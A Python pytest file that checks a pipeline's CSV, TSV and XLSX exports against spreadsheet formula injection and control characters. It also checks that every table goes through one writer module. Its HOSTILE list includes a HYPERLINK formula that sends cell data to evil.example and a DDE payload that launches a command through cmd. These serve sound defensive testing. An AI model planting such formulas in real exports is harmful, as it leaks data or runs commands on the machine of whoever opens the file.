"""Issue 25, items 2 and 3: one writer for every CSV, TSV and XLSX the product writes
(``pipeline/report/sheets.py``), and hostile values in every column of every export.

Before the fix the weekly cases CSV wrote ``=HYPERLINK(…)``, ``=1+2`` and ``+cmd|' /C calc'!A0``
as they came, the XLSX summary sheet turned a QA place ``=HYPERLINK(…)`` into a formula cell,
and a place with ``\\x01`` (or ``/export.xlsx?q=%01``) was a 500 for the whole period.
"""

from __future__ import annotations

import ast
import csv
import io
import re
from datetime import datetime
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook

from pipeline.cli import main
from pipeline.report import case_reports, exports, sheets
from tests.helpers import REPO
from tests.support import tally
from tests.support.web_fixtures import FAST_AUTH, csrf_of, password_of

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\t=1+2", "\r=1+2", "\n=1+2", "  =1+2", "\uff1d1+2", "phường\x01Tân Lập", "\x00", "\x1b[2J", "a\x7fb",
    "c\u0085d", "lone \udcff surrogate", "x" * 40_000, "dòng một\ndòng hai\r\ndòng ba", "'=already quoted",
]
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff]")


def problem(value) -> str | None:
    """Why a cell read back from an export is unsafe, or None."""
    if not isinstance(value, str):
        return None
    if _CONTROL.search(value):
        return "control character"
    if len(value) > sheets.MAX_CELL_CHARS:
        return "longer than a cell may be"
    if value[:1] in ("\t", "\r", "\n") or value.lstrip(" ")[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20"):
        return "runs as a formula"
    return None


def csv_problems(text: str) -> list[tuple]:
    out = []
    for i, row in enumerate(csv.reader(io.StringIO(text.lstrip("\ufeff")))):
        for j, value in enumerate(row):
            if problem(value):
                out.append((i, j, problem(value), value[:30]))
    return out


def xlsx_problems(data: bytes) -> list[tuple]:
    out = []
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    out.append((ws.title, c.coordinate, "formula cell", str(c.value)[:30]))
                elif problem(c.value):
                    out.append((ws.title, c.coordinate, problem(c.value), str(c.value)[:30]))
    return out


def _hostile_call_rows() -> list[dict]:
    """One call per hostile value, with that value in every text column an export writes."""
    rows = []
    for k, v in enumerate(HOSTILE):
        rows.append({"call_id": v, "pbx_call_id": v, "started_at": datetime(2026, 11, 2, 8, k % 60),
                     "operator_ext": v, "caller_initials": v, "duration_s": 61.0, "topics": v, "places": v,
                     "routing_vi": v, "routing_en": v, "urgent": True, "urgency_reasons": v, "needs_review": True,
                     "review_reasons": v, "reviewed": False, "confidence": 0.5, "summary": v, "transcript": v})
    return rows


@pytest.mark.parametrize("reference", [False, True])
def test_hostile_values_in_every_column_of_the_call_exports(reference):
    rows = _hostile_call_rows()
    text = exports.calls_csv(rows, caller_reference=reference).decode("utf-8")
    found = csv_problems(text)
    data = exports.calls_xlsx(rows, caller_reference=reference, filters_text=HOSTILE[0] + HOSTILE[10])
    found += xlsx_problems(data)
    n_cells = len(rows) * len(exports.columns_for(rows, caller_reference=reference)) * 2
    tally.record("export_cell", "hostile values in the call exports", tried=n_cells, survived=n_cells - len(found))
    assert not found, found[:10]
    # The values are still there to read, as text: the first one with its apostrophe.
    wb = load_workbook(io.BytesIO(data))
    assert wb["Cuộc gọi"]["A2"].value == "'" + HOSTILE[0]
    places = [c.value for c in wb["Tổng hợp"]["1"]] + [c.value for r in wb["Tổng hợp"].iter_rows() for c in r]
    assert "'=1+2" in places  # the summary sheet's ward columns too
    assert any(isinstance(v, str) and v.endswith(sheets.CUT_MARK) for v in places)


def test_hostile_values_in_every_column_of_the_weekly_cases_csv():
    rows = [{c: v for c in ("unit", "week", *case_reports.WEEKLY_COLUMNS)} for v in HOSTILE]
    text = case_reports.weekly_csv(rows, raw_text=True) + case_reports.weekly_csv(rows)
    found = csv_problems(text)
    n_cells = 2 * len(rows) * (2 + len(case_reports.WEEKLY_COLUMNS))
    tally.record("export_cell", "hostile values in the weekly cases CSV", tried=n_cells, survived=n_cells - len(found))
    assert not found, found[:10]


def test_hostile_values_in_the_eval_tsv(tmp_path):
    from pipeline.eval.asr import ClipResult, write_rows

    results = [ClipResult(file=v, audio_s=1.0, wall_s=0.1, word_errors=1, ref_words=2, char_errors=1,
                          ref_chars=5, confidence=0.5, flags=(v,), reference=v, hypothesis=v) for v in HOSTILE]
    write_rows(results, tmp_path / "rows.tsv")
    found = []
    with open(tmp_path / "rows.tsv", encoding="utf-8", newline="") as fh:
        for i, row in enumerate(csv.reader(fh, delimiter="\t")):
            found += [(i, j, problem(v)) for j, v in enumerate(row) if problem(v)]
    tally.record("export_cell", "hostile values in the eval TSV", tried=len(results) * 12,
                 survived=len(results) * 12 - len(found))
    assert not found, found[:10]


# ---- through the app and the CLI, from hostile rows in the warehouse

@pytest.fixture
def hostile_db(cases_db):
    """The case fixture with hostile text where QA, units and the call log write it."""
    con = duckdb.connect(str(cases_db))
    ids = [r[0] for r in con.execute("SELECT call_id FROM calls ORDER BY call_id").fetchall()]
    storable = [v for v in HOSTILE if not re.search(r"[\ud800-\udfff]", v)]  # DuckDB stores UTF-8 only
    for k, cid in enumerate(ids):
        v = storable[k % len(storable)]
        con.execute("UPDATE calls SET operator_ext = ?, pbx_call_id = ?, caller_initials = ?, summary = ?, "
                    "transcript = ? WHERE call_id = ?", [v, v, v, v, v, cid])
        con.execute("UPDATE call_places SET name = ? WHERE call_id = ? AND kind IN ('ward', 'commune')", [v, cid])
        con.execute("UPDATE cases SET unit = ?, result = ?, place = ?, topic = ? WHERE case_id = ?",
                    [v, v, v, v, "PA-" + cid])
    con.close()
    return cases_db


def _client(app, name: str):
    from fastapi.testclient import TestClient

    c = TestClient(app)
    page = c.get("/login")
    assert c.post("/login", data={"username": name, "password": password_of(name), "csrf_token": csrf_of(page.text)},
                  follow_redirects=False).status_code == 303
    return c


def test_hostile_rows_through_every_export_of_the_app_and_the_cli(hostile_db, tmp_path):
    from pipeline.web.app import WebOptions, create_app

    app = create_app(hostile_db, options=WebOptions(auth=FAST_AUTH))
    found, tried = [], 0
    for name in ("minh", "an"):  # a manager (no caller reference) and an admin (with it)
        c = _client(app, name)
        for path in ("/export.csv", "/export.csv?q=%01", "/cases/export.csv"):
            r = c.get(path)
            assert r.status_code == 200, (path, r.status_code)
            found += csv_problems(r.content.decode("utf-8"))
            tried += 1
        for path in ("/export.xlsx", "/export.xlsx?q=%01", "/export.xlsx?place=%3D1%2B2%01"):
            r = c.get(path)
            assert r.status_code == 200 and r.content[:2] == b"PK", (path, r.status_code)
            found += xlsx_problems(r.content)
            tried += 1
    for args in (["cases", "export", "--out", str(tmp_path / "w.csv")],
                 ["export", "calls", "--format", "csv", "--out", str(tmp_path / "c.csv"), "--role", "admin"],
                 ["export", "calls", "--format", "xlsx", "--out", str(tmp_path / "c.xlsx")]):
        assert main([*args, "--db", str(hostile_db)]) == 0
        out = Path(args[args.index("--out") + 1])
        found += xlsx_problems(out.read_bytes()) if out.suffix == ".xlsx" else csv_problems(out.read_text("utf-8"))
        tried += 1
    tally.record("export_file", "hostile warehouse rows through every export", tried=tried,
                 survived=tried - len({f[0] for f in found}))
    assert not found, found[:10]


# ---- one writer

WRITER = "pipeline/report/sheets.py"


def _writes_tables(path: Path) -> list[str]:
    """What in ``path`` writes CSV, TSV or XLSX itself (csv.writer, openpyxl's Workbook, to_csv, COPY … TO)."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv" \
                and node.attr in ("writer", "DictWriter"):
            found.append(f"csv.{node.attr}")
        elif isinstance(node, ast.Attribute) and node.attr in ("to_csv", "to_excel", "write_csv", "write_excel"):
            found.append(node.attr)
        elif isinstance(node, ast.ImportFrom) and (node.module or "").startswith(("openpyxl", "xlsxwriter")) \
                and any(a.name in ("Workbook", "load_workbook") for a in node.names):
            found.append(f"from {node.module} import Workbook")
        elif isinstance(node, ast.Import) and any(a.name.startswith("xlsxwriter") for a in node.names):
            found.append("import xlsxwriter")
        elif isinstance(node, ast.Constant) and isinstance(node.value, str) \
                and re.search(r"\bCOPY\b[\s\S]*\bTO\b", node.value) and "FORMAT" in node.value.upper():
            found.append("COPY … TO")
    return found


def test_every_csv_and_xlsx_the_product_writes_goes_through_one_writer():
    writers = {}
    for folder in ("pipeline", "flows"):
        for path in sorted((REPO / folder).rglob("*.py")):
            rel = str(path.relative_to(REPO))
            if rel != WRITER and (found := _writes_tables(path)):
                writers[rel] = found
    assert writers == {}, f"write tables through {WRITER} (sheets.csv_text, write_tsv, Workbook): {writers}"
    assert _writes_tables(REPO / WRITER)  # the check sees a writer when there is one
